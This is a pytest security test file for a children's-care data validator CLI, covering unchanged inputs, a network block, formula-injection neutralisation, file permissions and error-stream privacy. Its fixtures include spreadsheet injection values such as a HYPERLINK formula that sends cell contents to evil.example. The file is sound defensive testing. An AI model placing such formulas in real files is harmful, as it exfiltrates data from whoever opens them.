"""Safety (issue 14): inputs never change, nothing goes on the network, spreadsheet and CSV cells
from the input are never formulas, reports respect the umask and leave no temporary files, and
record values reach the terminal's error stream only with --verbose."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import openpyxl
import pytest

from cli_run import file_hashes, run_cli  # through the installed entry point (lac_validator.cli:run)

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "example_returns" / "2025-26"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Values a hostile or careless extract may hold; each reaches a report as an error's value.
HOSTILE_HEADER_ROWS = [
    '=HYPERLINK("http://evil.example/?"&A1),+X,01/01/2010,@SUM(1+1),-UN1,,',
    '"\rC9",M,01/01/2010,"\tWBRI",,,',
    "C8,=1+2,01/01/2010,WBRI,,,",
]






HEADER = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n"
EPIS = "CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,HOME_POST,PL_POST,URN\n"
SW = "CHILD,DOB,SW_ID,SW_DECOM,SW_DEC,SW_REASON\n"
# A few rules that report the hostile values: every command stays quick.
SELECT = ["--select", "101,102,103,168,SW"]


@pytest.fixture
def hostile(tmp_path):
    """A small return (this year and last) with rows of formula-like values."""
    cur, prev = tmp_path / "in" / "current", tmp_path / "in" / "previous"
    for folder in (cur, prev):
        folder.mkdir(parents=True)
        (folder / "header.csv").write_text(HEADER + "1,m,01/01/2010,WBRI,,,\n2,X,01-01-2011,wbri,,,\n"
                                           + "\n".join(HOSTILE_HEADER_ROWS) + "\n", encoding="utf-8", newline="")
        (folder / "episodes.csv").write_text(EPIS + "1,01/04/2025,S,C2,N1,U1,PR1,01/06/2025,X1,,,,\n"
                                             "1,01/05/2025,P,C2,N1,U1,PR1,,,,,,\nC8,01/04/2025,S,C2,N1,U1,PR1,,,,,,\n")
        (folder / "sw_episodes.csv").write_text(SW + "1,01/01/2010,SW001,01/03/2025,30/04/2025,\n"
                                                "1,01/01/2010,SW002,01/05/2025,,\nC8,01/01/2010,=SW(1),01/04/2025,,\n"
                                                "C8,01/01/2010,SW9,01/04/2025,01/05/2025,XX\n")
    # last year is not a byte-identical copy of this year (such a --previous is refused)
    (prev / "sw_episodes.csv").write_text((prev / "sw_episodes.csv").read_text() + "9,01/01/2009,SW003,01/04/2024,,\n")
    return tmp_path


def outputs(tmp: Path) -> Path:
    out = tmp / "out"
    out.mkdir(exist_ok=True)
    return out


# ---------------------------------------------------------------- inputs never change

def test_no_command_changes_its_inputs(hostile, capsys, monkeypatch):
    cur, prev, out = hostile / "in" / "current", hostile / "in" / "previous", outputs(hostile)
    before = file_hashes(hostile / "in")
    base = [cur, "--previous", prev, "--year", "2025-26", *SELECT]
    commands = [["validate", *base, "-q"]]
    commands += [["validate", *base, "-f", fmt, "-o", out / f"r.{fmt}"] for fmt in ("json", "csv", "xlsx", "junit", "html", "text")]
    commands += [
        ["validate", *base, "-q", "--fix-sheet", out / "fix.xlsx", "--history", out / "h.sqlite", "--label", "one"],
        ["validate", *base, "-q", "--history", out / "h.sqlite", "--label", "two"],
        ["validate", *base, "-f", "xlsx", "-o", out / "split", "--split-by", "social-worker"],
        ["baseline", "create", *base, "-o", out / "baseline.yaml"],
        ["validate", *base, "-q", "--baseline", out / "baseline.yaml"],
        ["profile", *base, "-o", out / "profile.json"],
        ["convert", cur, "--to", "csv", "-o", out / "csv", "--year", "2025-26"],
        ["convert", cur, "--to", "xlsx", "-o", out / "ret.xlsx", "--year", "2025-26"],
        ["convert", cur, "--to", "xml", "-o", out / "ret.xml", "--year", "2025-26"],
        ["fix", cur, "-o", out / "fixed", "--year", "2025-26", "--dry-run"],  # the copies are re-validated with all rules
        ["fix", cur, "-o", out / "fixed", "--year", "2025-26"],
        ["apply-fixes", out / "fix.xlsx", "--to", cur, "-o", out / "applied", "--year", "2025-26"],
        ["diff", "1", "2", "--history", out / "h.sqlite"],
        ["trend", "--history", out / "h.sqlite"],
        ["validate", cur, "--year", "2025-26", *SELECT, "-f", "csv", "-o", cur / "header.csv"],  # refused: would overwrite
    ]
    for args in commands:
        code, _, err = run_cli(args, capsys, monkeypatch)
        assert code in (0, 1, 2) and "Traceback" not in err, (args, err)
        assert file_hashes(hostile / "in") == before, f"inputs changed by {args}"
    assert code == 2  # the last command was refused


# ---------------------------------------------------------------- no network, also in a real process

SITECUSTOMIZE = '''
import os, socket
_marker = os.environ["LAC_TEST_NET_MARKER"]
def _refuse(*args, **kwargs):
    with open(_marker, "a") as fh:
        fh.write("network use attempted\\n")
    raise OSError("network disabled by the test suite")
for _name in ("connect", "connect_ex", "sendto"):
    setattr(socket.socket, _name, _refuse)
socket.create_connection = _refuse
socket.getaddrinfo = _refuse
'''


def _blocked_env(tmp_path: Path) -> tuple[dict, Path]:
    site = tmp_path / "netblock"
    site.mkdir(exist_ok=True)
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE)
    marker = tmp_path / "net-attempts.txt"
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")]),
               LAC_TEST_NET_MARKER=str(marker))
    env.pop("LAC_VALIDATOR_DEBUG", None)
    return env, marker


def test_the_socket_block_for_subprocesses_works(tmp_path):
    env, marker = _blocked_env(tmp_path)
    p = subprocess.run([sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', 9))"],
                       env=env, capture_output=True, text=True)
    assert p.returncode != 0 and marker.exists()


def test_commands_in_a_real_process_use_no_network(hostile):
    env, marker = _blocked_env(hostile)
    cur, prev, out = hostile / "in" / "current", hostile / "in" / "previous", outputs(hostile)
    providers = EXAMPLE / "ofsted_providers.xlsx"
    # every rule, with the LA and provider list given: the postcode and URN rules run too
    for args in (["validate", cur, "--previous", prev, "--year", "2025-26", "--la", "E08000007", "--providers", providers,
                  "-f", "xlsx", "-o", out / "r.xlsx", "--history", out / "h.sqlite"],
                 ["convert", cur, "--to", "xml", "-o", out / "r.xml", "--year", "2025-26"]):
        p = subprocess.run([sys.executable, "-m", "lac_validator.cli", *map(str, args)], env=env, capture_output=True, text=True)
        assert p.returncode in (0, 1), p.stderr
        assert "Traceback" not in p.stderr
    assert not marker.exists(), marker.read_text()


# ---------------------------------------------------------------- formula injection

def _xlsx_cells(path: Path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


def test_spreadsheet_and_csv_reports_neutralise_input_values(hostile, capsys, monkeypatch):
    cur, prev, out = hostile / "in" / "current", hostile / "in" / "previous", outputs(hostile)
    (hostile / "workers.csv").write_text("SW_ID,Name,Team,Email\n=SW(1),=evil(),+team,@mail\n")
    base = [cur, "--previous", prev, "--year", "2025-26", *SELECT]
    run_cli(["validate", *base, "-f", "xlsx", "-o", out / "r.xlsx", "--fix-sheet", out / "fix.xlsx",
             "--social-workers", hostile / "workers.csv"], capsys, monkeypatch)
    run_cli(["validate", *base, "-f", "xlsx", "-o", out / "split", "--split-by", "social-worker"], capsys, monkeypatch)
    code, _, err = run_cli(["validate", *base, "-f", "csv", "-o", out / "r.csv"], capsys, monkeypatch)
    assert code == 1, err

    workbooks = [out / "r.xlsx", out / "fix.xlsx", *sorted((out / "split").glob("*.xlsx"))]
    seen_hostile = set()
    for book in workbooks:
        for sheet, c in _xlsx_cells(book):
            assert c.data_type != "f", f"{book.name}/{sheet}!{c.coordinate} is a formula: {c.value!r}"
            if isinstance(c.value, str):
                assert not c.value.startswith(TRIGGERS), f"{book.name}/{sheet}!{c.coordinate}: {c.value!r}"
                if c.value.startswith("'"):
                    seen_hostile.add(c.value[:3])
    # the hostile values did reach the workbooks, neutralised
    # (XML reading turns the CR of "\rC9" into LF)
    assert {"'=H", "'+X", "'=1", "'\tW", "'-U"} <= seen_hostile and {"'\rC", "'\nC"} & seen_hostile, seen_hostile

    text = (out / "r.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    n_errors = len(json.loads(_json_report(hostile, base, capsys, monkeypatch))["errors"])
    # CRLF rows: a bare CR inside a value stays inside its quoted cell, so no row is split
    assert len(rows) == n_errors + 1 and {len(r) for r in rows} == {len(rows[0])}
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'\rC9") for c in cells)


def _json_report(hostile, base, capsys, monkeypatch) -> str:
    out = outputs(hostile) / "r.json"
    run_cli(["validate", *base, "-f", "json", "-o", out], capsys, monkeypatch)
    return out.read_text(encoding="utf-8")


def test_change_log_of_fixes_is_neutralised(tmp_path, capsys, monkeypatch):
    cur = tmp_path / "cur"
    cur.mkdir()
    (cur / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n=cmd(),m,01-01-2010,wbri,,,\n")
    code, _, err = run_cli(["fix", cur, "-o", tmp_path / "fixed", "--year", "2025-26", "--who", "=me()"], capsys, monkeypatch)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO((tmp_path / "fixed" / "lac-validator-changes.log").read_text(encoding="utf-8"), newline="")))
    assert len(rows) == 4  # header + 3 corrections
    assert not [c for r in rows for c in r if c.startswith(TRIGGERS)]
    who, child = rows[0].index("who"), rows[0].index("child")
    assert {r[who] for r in rows[1:]} == {"'=me()"} and {r[child] for r in rows[1:]} == {"'=cmd()"}  # fix keeps case as given


# ---------------------------------------------------------------- permissions and temporary files

@pytest.mark.parametrize("umask", [0o077, 0o027])
def test_reports_respect_the_umask_and_leave_no_temp_files(hostile, capsys, monkeypatch, umask):
    cur, out = hostile / "in" / "current", outputs(hostile)
    scratch = hostile / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    old = os.umask(umask)
    try:
        base = [cur, "--year", "2025-26", *SELECT]
        for args in (["validate", *base, "-f", "xlsx", "-o", out / "r.xlsx", "--fix-sheet", out / "fix.xlsx",
                      "--history", out / "h.sqlite"],
                     ["validate", *base, "-f", "csv", "-o", out / "r.csv"],
                     ["validate", *base, "-f", "xlsx", "-o", out / "split", "--split-by", "social-worker"],
                     ["convert", cur, "--to", "csv", "-o", out / "csv", "--year", "2025-26"],
                     ["fix", cur, "-o", out / "fixed", "--year", "2025-26"]):
            code, _, err = run_cli(args, capsys, monkeypatch)
            assert code in (0, 1), err
    finally:
        os.umask(old)
    written = [p for p in out.rglob("*")]
    assert len(written) > 10
    for p in written:
        mode = p.stat().st_mode & 0o777
        assert mode & umask == 0, f"{p.relative_to(out)} has mode {oct(mode)} under umask {oct(umask)}"
    assert list(scratch.iterdir()) == []  # no temporary copy left behind


# ---------------------------------------------------------------- what reaches the terminal

def test_error_stream_holds_no_record_values_unless_verbose(tmp_path, capsys, monkeypatch):
    cur = tmp_path / "cur"
    cur.mkdir()
    (cur / "header.csv").write_text("C7041,M,14/02/2011,WBRI,,,\n")  # the header row is missing
    code, out, err = run_cli(["validate", cur, "--year", "2025-26"], capsys, monkeypatch)
    assert code == 2 and "header.csv" in err and "C7041" not in err + out and "14/02/2011" not in err
    code, out, err = run_cli(["validate", cur, "--year", "2025-26", "--verbose"], capsys, monkeypatch)
    assert code == 2 and "C7041" in err and "14/02/2011" in err  # shown on request


def test_warnings_on_the_error_stream_hold_no_values(tmp_path, capsys, monkeypatch):
    cur = tmp_path / "cur"
    cur.mkdir()
    (cur / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB,Notes\nC7041,M,2011-02-14,WBRI,,,,lives with aunt\n\n"
                                    "C7042,M,14/02/2011,WBRI,,,,\n")
    code, out, err = run_cli(["convert", cur, "--to", "csv", "-o", tmp_path / "o", "--year", "2025-26"], capsys, monkeypatch)
    assert code == 0 and "warning:" in err and "ISO dates" in err
    for value in ("C7041", "C7042", "2011-02-14", "lives with aunt"):
        assert value not in err


def test_unexpected_failure_shows_no_exception_text_unless_verbose(tmp_path, capsys, monkeypatch):
    import lac_validator.api as api

    def boom(*args, **kwargs):
        raise RuntimeError("could not parse child C7041 born 14/02/2011")

    monkeypatch.setattr(api, "build_report", boom)
    cur = tmp_path / "cur"
    cur.mkdir()
    (cur / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\nC7041,M,14/02/2011,WBRI,,,\n")
    code, out, err = run_cli(["validate", cur, "--year", "2025-26"], capsys, monkeypatch)
    assert code == 2 and "stopped unexpectedly (RuntimeError)" in err and "--verbose" in err
    assert "C7041" not in err + out and "Traceback" not in err
    code, out, err = run_cli(["--verbose", "validate", cur, "--year", "2025-26"], capsys, monkeypatch)
    assert code == 2 and "Traceback" in err and "C7041" in err
